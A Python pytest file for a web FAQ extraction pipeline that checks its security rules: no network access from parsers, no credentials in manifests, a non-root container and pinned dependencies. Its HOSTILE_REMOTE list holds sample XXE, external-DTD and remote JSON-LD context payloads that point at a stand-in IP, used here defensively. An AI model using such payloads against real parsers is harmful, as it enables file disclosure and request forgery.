"""Security ground rules: no credentials in manifests, parsers never touch the network, the
image runs as non-root, dependencies are pinned."""

from __future__ import annotations

import json
import re
import socket
import tomllib

import pytest

from conftest import REPO, SAMPLE
from webfaq.config import Config
from webfaq.extract.pipeline import QAProcessor
from webfaq.extract.warc_reader import HtmlPage

HOSTILE_REMOTE = [
    b'<!DOCTYPE html SYSTEM "http://198.51.100.7/evil.dtd"><html><body itemscope itemtype="https://schema.org/FAQPage">'
    b'<div itemprop="mainEntity" itemscope itemtype="https://schema.org/Question"><span itemprop="name">Q?</span></div></body></html>',
    b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY ext SYSTEM "http://198.51.100.7/secret">]>'
    b'<html xmlns="http://www.w3.org/1999/xhtml" vocab="https://schema.org/"><body typeof="FAQPage">&ext;</body></html>',
    b'<html><script type="application/ld+json">{"@context": "http://198.51.100.7/remote-context.jsonld",'
    b'"@type": "FAQPage", "mainEntity": {"@type": "Question", "name": "Does this fetch the context?",'
    b'"acceptedAnswer": {"@type": "Answer", "text": "No: contexts are never fetched, the page is data."}}}</script></html>',
]


def test_parsers_never_open_a_connection(monkeypatch):
    attempts = []

    def refuse(self, address):
        attempts.append(address)
        raise OSError("network disabled in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: refuse(None, a))
    cfg = Config()
    cfg.extract.sandbox = False  # in-process, so the patch applies to the parsers themselves
    from webfaq.counters import Counters

    counters = Counters()
    records = []
    for i, payload in enumerate(HOSTILE_REMOTE):
        records += QAProcessor(cfg).page_records(HtmlPage(f"https://a.example/{i}", None, payload, "text/html"),
                                                 "C", "f", counters)
    assert attempts == []
    assert [r["question"] for r in records] == ["Does this fetch the context?"]


@pytest.mark.spark
def test_signed_urls_never_reach_the_manifest(spark, tmp_path):
    from test_extract_job import run_extract

    signed = "https://127.0.0.1:9/crawl-data/x.warc.gz?X-Amz-Credential=AKIDSECRET&X-Amz-Signature=SIGSECRET"
    m = run_extract(spark, [str(SAMPLE / "sample-0001.warc.gz"), signed, "--lake", str(tmp_path / "lake"),
                            "--crawl-id", "C", "--job-failure-budget", "1", "--retry-max-attempts", "1"])
    text = (tmp_path / "lake" / "_runs" / f"{m['run_id']}.json").read_text()
    assert "SECRET" not in text and "X-Amz" not in text
    assert json.loads(text)["counters"]["files.failed.network_error"] == 1


def test_container_runs_as_non_root_with_pinned_base_and_constraints():
    dockerfile = (REPO / "Dockerfile").read_text()
    users = re.findall(r"^USER\s+(\S+)", dockerfile, re.M)
    assert users and users[-1] not in ("root", "0")
    assert re.search(r"^FROM\s+\S+:\d+\.\d+\.\d+", dockerfile, re.M)
    setup = (REPO / "scripts" / "setup.sh").read_text()
    assert "-c constraints.txt" in dockerfile
    # the set-up installs with the pinned file (or, for WEBFAQ_SPARK4, a copy that only swaps pyspark)
    assert "CONSTRAINTS=constraints.txt" in setup and '-c "$CONSTRAINTS"' in setup
    assert """grep -v '^pyspark==' constraints.txt""" in setup


def test_every_dependency_is_pinned():
    pinned = {line.split("==")[0].lower().replace("_", "-")
              for line in (REPO / "constraints.txt").read_text().splitlines() if "==" in line}
    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    deps = project["dependencies"] + project["optional-dependencies"]["test"]
    names = {re.split(r"[<>=\[ ;]", d, maxsplit=1)[0].lower().replace("_", "-") for d in deps}
    assert names - pinned == set()
